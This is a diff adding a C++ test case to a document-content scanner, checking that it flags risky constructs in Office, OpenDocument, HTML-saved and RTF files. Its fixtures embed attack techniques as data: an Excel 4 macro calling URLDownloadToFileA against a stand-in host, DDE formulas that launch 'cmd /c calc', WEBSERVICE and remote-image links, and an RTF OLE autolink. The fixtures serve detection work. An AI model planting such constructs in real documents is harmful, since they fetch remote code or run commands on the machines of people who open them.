@@ -351,4 +351,78 @@ TEST_CASE("a DDE field is emptied, however it is put together, and the other fie
   }
 }
 
+TEST_CASE("what runs or fetches is told in the less trodden forms of Office") {
+  const std::string sheet =
+      "<?xml version=\"1.0\"?><xm:macrosheet "
+      "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
+      "<row><c "
+      "r=\"A1\"><f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"https://far.example/x\",\"x\")</f></c></row>"
+      "</sheetData></xm:macrosheet>";
+  const std::string ods_content =
+      "<office:document-content><table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c "
+      "calc&quot;;&quot;x&quot;)\"/>"
+      "</office:document-content>";
+  const std::string odt_content =
+      "<office:document-content><draw:image xlink:href=\"\\\\far.example\\s\\x.png\"/></office:document-content>";
+  const auto odf = [](const std::string& type, const std::string& content) {
+    return zip_of({{"mimetype", "application/vnd.oasis.opendocument." + type}, {"content.xml", content}});
+  };
+  struct Row {
+    std::string says, name, bytes, trait, link;
+  };
+  const Row rows[] = {
+      {"a macro sheet under another name", "a.xlsm",
+       office("xl/workbook.xml", excel, {{"xl/workbook.xml", "<workbook/>"}, {"xl/other/q.xml", sheet}}), "office.xlm",
+       "https://far.example/x"},
+      {"and without the ending of XML", "a.xlsm",
+       office("xl/workbook.xml", excel, {{"xl/workbook.xml", "<workbook/>"}, {"xl/other/q.dat", sheet}}), "office.xlm",
+       "https://far.example/x"},
+      {"an address in the words of a connection", "a.xlsx",
+       office("xl/workbook.xml", excel,
+              {{"xl/workbook.xml", "<workbook/>"},
+               {"xl/connections.xml",
+                "<connections><connection><dbPr connection=\"FILE=https://far.example/q\"/>"
+                "</connection></connections>"}}),
+       "office.external_data", "https://far.example/q"},
+      {"an address in two pieces", "a.xlsx",
+       office("xl/workbook.xml", excel,
+              {{"xl/workbook.xml", "<workbook/>"},
+               {"xl/worksheets/sheet1.xml",
+                "<worksheet><c><f>HYPERLINK(\"https://fa\"&amp;\"r.example/x\",\"x\")</f></c></worksheet>"}}),
+       "", "https://far.example/x"},
+      {"a film that plays a page", "a.docx",
+       office("word/document.xml", word,
+              {{"word/document.xml",
+                "<w:document><wp15:webVideoPr embeddedHtml=\"&lt;iframe "
+                "src=&quot;https://far.example/v&quot;&gt;\"/></w:document>"}}),
+       "office.external_object", "https://far.example/v"},
+      {"DDE in a formula of OpenDocument", "a.ods", odf("spreadsheet", ods_content), "office.dde", ""},
+      {"a picture on a share in OpenDocument", "a.odt", odf("text", odt_content), "office.remote_image",
+       "\\\\far.example\\s\\x.png"},
+      {"a cell of a page named as a workbook", "a.xls",
+       "<html><table><tr><td>Total</td><td>\n =cmd|'/c calc'!A0</td></tr></table></html>", "office.dde", ""},
+      {"a formula beside a cell", "a.xls",
+       "<html xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><td "
+       "x:fmla=\"=WEBSERVICE(&quot;https://far.example/w&quot;)\">"
+       "1</td></html>",
+       "office.web_formula", "https://far.example/w"},
+      {"a field of a page that Word saved", "a.doc",
+       "<html><body><!--[if supportFields]><span style='mso-element:field-begin'></span> DDEAUTO <b>cmd</b> "
+       "\"/k calc\"<![endif]--></body></html>",
+       "office.dde", ""},
+      {"a linked object of RTF", "a.rtf",
+       "{\\rtf1{\\object\\objautlink{\\*\\objdata 01050000 01000000 02000000 4100 16000000 "
+       "68747470733a2f2f6661722e6578616d706c652f7800 00000000}}}",
+       "office.ole_link", "https://far.example/x"},
+  };
+  for (const auto& row : rows) {
+    CAPTURE(row.says);
+    const auto document = read_bytes(row.bytes, row.name);
+    if (!row.trait.empty()) CHECK(has_trait(document, row.trait));
+    if (!row.link.empty()) CHECK(has_link(document, row.link));
+  }
+  const auto plain = std::string("<html><body>a page with - a dash, + a plus and mail@host.example</body></html>");
+  CHECK_FALSE(has_trait(read_bytes(plain, "a.html"), "office.dde"));
+}
+
 }  // namespace sekisho::content
